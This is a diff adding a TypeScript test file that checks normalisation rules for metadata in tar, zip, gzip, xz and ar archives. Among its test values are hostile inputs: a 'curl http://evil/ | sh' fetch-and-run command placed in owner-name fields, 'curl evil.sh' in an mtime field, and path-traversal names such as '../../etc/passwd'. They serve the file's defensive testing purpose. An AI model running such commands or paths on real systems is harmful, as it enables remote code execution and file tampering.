@@ -1,0 +1,315 @@
+import { describe, expect, it } from 'vitest'
+import { consumers } from '../../src/consumers/index.ts'
+import { fromLatin1, isZero } from '../../src/model/bytes.ts'
+import { type Entry, type Facts, type FieldName, plainFacts } from '../../src/model/layer.ts'
+import type { ConsumerId, Original, RuleContext } from '../../src/model/rule.ts'
+import { rules } from '../../src/rules/index.ts'
+
+/** One field of one side. Without `value` the bytes did not parse as their kind. */
+interface Case {
+  readonly field: FieldName
+  readonly value?: string
+  readonly bytes?: string
+  readonly encodes?: Original['encodes']
+  readonly consumer?: ConsumerId
+  readonly facts?: Partial<Facts>
+  readonly type?: Entry['type'] | null
+  /** What the rule leaves; null (dropped) unless given. */
+  readonly left?: string
+}
+
+const originalOf = ({ field, value, bytes = '', encodes }: Case): Original => ({
+  name: field,
+  value,
+  encodes,
+  bytes: () => fromLatin1(bytes),
+  isZero: () => isZero(fromLatin1(bytes)),
+})
+
+const contextOf = ({ field, consumer = 'none', facts, type = 'file' }: Case): RuleContext => ({
+  consumer: consumers.find(({ id }) => id === consumer)!,
+  reach: 'transport',
+  facts: { ...plainFacts, ...facts },
+  format: field.split('.')[0]!,
+  layer: { path: [], name: 'x', reach: 'transport' },
+  entry: type === null ? undefined : { type, size: 0 },
+})
+
+const ruleCalled = (id: string) => rules.find(rule => rule.id === id)!
+const edit = (id: string, one: Case) => ruleCalled(id).edit(originalOf(one), contextOf(one))
+const each = (fields: readonly FieldName[], rest: Omit<Case, 'field'>): Case[] => fields.map(field => ({ field, ...rest }))
+
+const uniform = { owners: 'uniform' } as const
+const owners = ['tar.uid', 'tar.gid', 'ar.uid', 'ar.gid'] as const
+const names = ['tar.uname', 'tar.gname'] as const
+const modes = ['tar.mode', 'zip.mode', 'ar.mode'] as const
+
+/** What each rule erases, and what it must leave: nothing here is compared with another side. */
+const tables: Readonly<Record<string, { readonly removes: readonly Case[]; readonly keeps: readonly Case[] }>> = {
+  'entry-mtime': {
+    removes: [
+      { field: 'tar.mtime', value: '1700000000' },
+      { field: 'tar.mtime', value: '-1' },
+      { field: 'tar.mtime', value: '1700000000.123456789' },
+      { field: 'ar.mtime', value: '' },
+      { field: 'ar.mtime', value: '0' },
+      { field: 'zip.time', value: '2023-11-14 22:13:20' },
+      { field: 'zip.time', value: '1980-00-00 00:00:00' },
+    ],
+    keeps: [
+      { field: 'tar.mtime', bytes: 'curl evil.sh' },
+      { field: 'tar.mtime', value: `1.${'7'.repeat(400)}` },
+      { field: 'tar.mtime', value: '12345678901234567890' },
+      { field: 'zip.time', bytes: '\xff\xff\xff\xff' },
+    ],
+  },
+  'entry-extra-times': {
+    removes: [
+      { field: 'tar.atime', value: '1700000000.5' },
+      { field: 'tar.ctime', value: '0' },
+      { field: 'zip.extra-time', value: 'mtime 2023-11-14T22:13:20Z, atime 2023-11-14T22:13:21Z' },
+    ],
+    keeps: [
+      { field: 'tar.atime', value: 'tomorrow' },
+      { field: 'tar.ctime', value: `0.${'1'.repeat(21)}` },
+      { field: 'zip.extra-time', bytes: 'UT\x01\0\xff' },
+    ],
+  },
+  'gzip-mtime': {
+    removes: [{ field: 'gzip.mtime', value: '1700000000' }],
+    keeps: [{ field: 'gzip.mtime', bytes: 'evil' }],
+  },
+  'gzip-name': {
+    removes: [
+      { field: 'gzip.name', value: 'data.tar' },
+      { field: 'gzip.name', value: 'b\xe4r' },
+    ],
+    keeps: [
+      { field: 'gzip.name', value: '../../etc/passwd' },
+      { field: 'gzip.name', value: 'a\nb' },
+      { field: 'gzip.name', value: '\x1b[2J' },
+      { field: 'gzip.name', value: 'x'.repeat(256) },
+      { field: 'gzip.name', bytes: 'x' },
+    ],
+  },
+  'gzip-os': {
+    removes: [
+      { field: 'gzip.os', value: '3' },
+      { field: 'gzip.os', value: '255' },
+      { field: 'gzip.xfl', value: '2' },
+      { field: 'gzip.flags', value: '' },
+    ],
+    keeps: [
+      { field: 'gzip.os', value: '77' },
+      { field: 'gzip.xfl', value: '101' },
+      { field: 'gzip.flags', bytes: '\x20' },
+    ],
+  },
+  'entry-owner': {
+    removes: [
+      ...each(owners, { value: '1000', consumer: 'npm' }),
+      ...each(names, { value: 'builder', consumer: 'pip' }),
+      ...each(names, { value: 'DOMAIN\\Domain Users', consumer: 'npm' }),
+      ...each(owners, { value: '1000', facts: uniform }),
+      ...each(names, { value: '', facts: uniform }),
+      { field: 'ar.uid', value: '', consumer: 'linker' },
+    ],
+    keeps: [
+      ...each([...owners, ...names], { value: '0', consumer: 'dpkg', facts: uniform }),
+      ...each([...owners, ...names], { value: '0', facts: { owners: 'mixed' } }),
+      ...each([...owners, ...names], { value: '0', facts: { owners: 'none' } }),
+      ...each([...owners, ...names], { bytes: 'evil', consumer: 'npm' }),
+      ...each(owners, { value: 'root', consumer: 'npm' }),
+      ...each(names, { value: 'curl http://evil/ | sh', consumer: 'npm' }),
+      ...each(names, { value: 'x'.repeat(65), consumer: 'npm' }),
+    ],
+  },
+  'zip-owner': {
+    removes: [
+      { field: 'zip.extra-owner', value: 'uid 1000, gid 1000' },
+      { field: 'zip.extra-owner', value: '' },
+    ],
+    keeps: [{ field: 'zip.extra-owner', bytes: 'ux\x03\0abc' }],
+  },
+  'device-number-unused': {
+    removes: [
+      ...each(['tar.devmajor', 'tar.devminor'], { value: '' }),
+      ...each(['tar.devmajor', 'tar.devminor'], { value: '8', type: 'directory' }),
+    ],
+    keeps: [
+      { field: 'tar.devmajor', value: '1', type: 'character' },
+      { field: 'tar.devminor', value: '3', type: 'block' },
+      { field: 'tar.devminor', value: '3', type: 'other' },
+      { field: 'tar.devminor', value: '3', type: null },
+      { field: 'tar.devmajor', bytes: 'evil' },
+    ],
+  },
+  'entry-mode': {
+    removes: [
+      ...each(modes, { value: '644', consumer: 'npm' }),
+      ...each(modes, { value: '755', consumer: 'pip', left: 'x:0111' }),
+      ...each(modes, { value: '700', consumer: 'jvm', left: 'x:0100' }),
+      ...each(modes, { value: '4755', consumer: 'npm', left: 'x:4111' }),
+      ...each(modes, { value: '1666', consumer: 'npm', left: 'x:1000' }),
+      { field: 'zip.mode', value: '100600', consumer: 'pip' },
+      { field: 'zip.mode', value: '40755', consumer: 'pip', type: 'directory', left: 'x:0111' },
+      { field: 'zip.mode', value: '120777', consumer: 'jvm', type: 'symlink', left: 'x:120111' },
+      { field: 'ar.mode', value: '100755', consumer: 'linker' },
+      { field: 'ar.mode', value: '', consumer: 'linker' },
+    ],
+    keeps: [
+      ...each(modes, { value: '644', consumer: 'dpkg' }),
+      ...each(modes, { value: '644', consumer: 'none', facts: uniform }),
+      ...each(modes, { bytes: 'evil', consumer: 'npm' }),
+      ...each(modes, { value: '7777644', consumer: 'npm' }),
+      ...each(modes, { value: '200644', consumer: 'npm' }),
+      { field: 'ar.mode', value: '4755', consumer: 'linker' },
+      { field: 'ar.mode', value: '120777', consumer: 'linker' },
+      { field: 'zip.mode', value: '', consumer: 'npm' },
+    ],
+  },
+  'entry-order': { removes: [], keeps: [{ field: 'tar.name', value: 'a' }] },
+  'entry-name-spelling': {
+    removes: [
+      { field: 'tar.name', value: './a', left: 'a' },
+      { field: 'tar.name', value: './/./a', left: 'a' },
+      { field: 'tar.name', value: './', type: 'directory', left: '.' },
+      { field: 'tar.name', value: './d/', type: 'directory', left: 'd' },
+      { field: 'tar.linkname', value: './a', type: 'hardlink', left: 'a' },
+    ],
+    keeps: [
+      { field: 'tar.name', value: './a', facts: { duplicates: true } },
+      { field: 'tar.name', bytes: './a' },
+      { field: 'tar.name', value: '/', type: 'directory', left: '/' },
+      { field: 'tar.name', value: '/etc/passwd', left: '/etc/passwd' },
+      { field: 'tar.name', value: '../a', left: '../a' },
+      { field: 'tar.name', value: 'a/', left: 'a/' },
+      { field: 'tar.name', value: 'a/./b', left: 'a/./b' },
+      { field: 'tar.name', value: '.a', left: '.a' },
+      { field: 'tar.linkname', value: './a', type: 'symlink' },
+      { field: 'tar.linkname', value: './a', type: 'hardlink', facts: { duplicates: true } },
+    ],
+  },
+  'archive-dialect': {
+    removes: [{ field: 'tar.magic', value: 'gnu' }, ...each(ruleCalled('archive-dialect').fields, { value: '' })],
+    keeps: each(ruleCalled('archive-dialect').fields, { bytes: 'evil' }),
+  },
+  'pax-envelope': {
+    removes: [{ field: 'tar.pax-envelope', value: '' }],
+    keeps: [{ field: 'tar.pax-envelope', bytes: 'evil' }],
+  },
+  'zip-tool-flavour': {
+    removes: [
+      { field: 'zip.made-by', value: '788' },
+      { field: 'zip.version-needed', value: '20' },
+      { field: 'zip.internal-attributes', value: '1' },
+      { field: 'zip.dos-attributes', value: '32' },
+      { field: 'zip.extra-unicode', value: 'same' },
+      { field: 'zip.extra-jar', value: '' },
+    ],
+    keeps: [
+      { field: 'zip.extra-unicode', value: 'local 01deadbeef' },
+      { field: 'zip.disk', bytes: '\x01\0' },
+      { field: 'zip.eocd-disk', bytes: '\x01\0\0\0' },
+    ],
+  },
+  'zero-padding': {
+    removes: [
+      ...each(['tar.end', 'tar.fill', 'tar.padding', 'gzip.padding', 'xz.padding', 'xz.block-padding'], {
+        bytes: '\0'.repeat(512),
+      }),
+      { field: 'ar.padding', value: '', bytes: '\n' },
+      { field: 'zip.extra-align', value: '', bytes: '\x35\xd9\x02\0\x04\0' },
+    ],
+    keeps: [
+      ...each(['tar.end', 'tar.fill', 'tar.padding', 'gzip.padding', 'xz.padding', 'xz.block-padding'], { bytes: '\0\0\0\x01' }),
+      { field: 'ar.padding', bytes: '\0' },
+      { field: 'ar.padding', bytes: 'x' },
+      { field: 'zip.extra-align', value: 'local 04000001', bytes: '\x35\xd9\x03\0\x04\0\x01' },
+    ],
+  },
+  compression: {
+    removes: [
+      ...each(['gzip.deflate', 'xz.block', 'zip.data'], { encodes: 'ok', bytes: 'packed' }),
+      { field: 'zip.method', value: '0' },
+      { field: 'zip.method', value: '8' },
+      { field: 'xz.flags', value: '4' },
+      { field: 'xz.block-header', value: '0200210116000000' },
+    ],
+    keeps: [
+      ...each(['gzip.deflate', 'xz.block', 'zip.data'], { encodes: 'damaged', bytes: 'packed' }),
+      ...each(['gzip.deflate', 'xz.block', 'zip.data'], { encodes: 'unsupported', bytes: 'packed' }),
+      ...each(['gzip.deflate', 'xz.block', 'zip.data'], { bytes: 'packed' }),
+      { field: 'zip.method', value: '99' },
+      { field: 'zip.method', value: '12' },
+      { field: 'xz.flags', bytes: '\0\x0f' },
+    ],
+  },
+  'compression-format': {
+    removes: [
+      { field: 'codec.kind', value: 'xz' },
+      { field: 'deb.suffix', value: '.xz' },
+      ...each(['gzip.magic', 'xz.magic'], { value: '' }),
+    ],
+    keeps: each(['codec.kind', 'deb.suffix', 'gzip.magic', 'gzip.method', 'xz.magic'], { bytes: 'evil' }),
+  },
+  'owner-any': {
+    removes: [
+      ...each([...owners, ...names], { value: '0', consumer: 'dpkg', facts: { owners: 'mixed' } }),
+      { field: 'tar.uname', value: 'curl http://evil/ | sh', consumer: 'dpkg' },
+    ],
+    keeps: each([...owners, ...names], { bytes: 'evil', consumer: 'dpkg' }),
+  },
+  'mode-rw': {
+    removes: [
+      ...each(modes, { value: '664', consumer: 'dpkg' }),
+      ...each(modes, { value: '775', consumer: 'none', left: 'x:0111' }),
+      ...each(modes, { value: '4775', consumer: 'dpkg', left: 'x:4111' }),
+      { field: 'ar.mode', value: '664', consumer: 'linker' },
+    ],
+    keeps: [...each(modes, { bytes: 'evil', consumer: 'dpkg' }), { field: 'ar.mode', value: '6755', consumer: 'linker' }],
+  },
+  comment: {
+    removes: each(['gzip.comment', 'zip.comment', 'zip.archive-comment', 'tar.comment'], { bytes: 'built by me' }),
+    keeps: [],
+  },
+}
+
+const shown = ({ field, value, bytes, consumer, facts, type, encodes }: Case): string =>
+  JSON.stringify({ field, value: value?.slice(0, 24), bytes: bytes?.slice(0, 12), consumer, facts, type, encodes })
+const named = (cases: readonly Case[]): [string, Case][] => cases.map(one => [shown(one), one])
+
+it('every rule has a table', () => expect(Object.keys(tables).sort()).toEqual(rules.map(({ id }) => id).sort()))
+
+describe.each(Object.entries(tables))('%s', (id, { removes, keeps }) => {
+  const all = [...removes, ...keeps]
+
+  it.each(named(removes))('removes %s', (_, one) => expect(edit(id, one)).toBe(one.left ?? null))
+
+  it.each(named(keeps))('keeps %s', (_, one) => expect(edit(id, one)).toBe(one.left))
+
+  it('leaves what it has made', () => {
+    for (const one of all) {
+      const once = edit(id, one)
+      if (typeof once === 'string') expect([once, undefined]).toContain(edit(id, { ...one, value: once }))
+    }
+  })
+
+  it('is tried on all of its fields', () => {
+    const tried = new Set(all.map(({ field }) => field))
+    const untried = ruleCalled(id).fields.filter(field => !tried.has(field))
+    expect(untried).toEqual(untriedByPurpose[id] ?? [])
+  })
+})
+
+it('mode-rw leaves nothing that entry-mode erases, so that it can stand in for it', () => {
+  for (const one of [...tables['entry-mode']!.removes, ...tables['entry-mode']!.keeps]) {
+    const ordinary = edit('entry-mode', one)
+    if (ordinary !== undefined) expect(edit('mode-rw', one)).toBe(ordinary)
+  }
+})
+
+/** The same lines of code as a field that is tried. */
+const untriedByPurpose: Readonly<Record<string, readonly FieldName[]>> = {
+  'zip-tool-flavour': ['zip.signature', 'zip.local-version-needed', 'zip.eocd-signature'],
+}
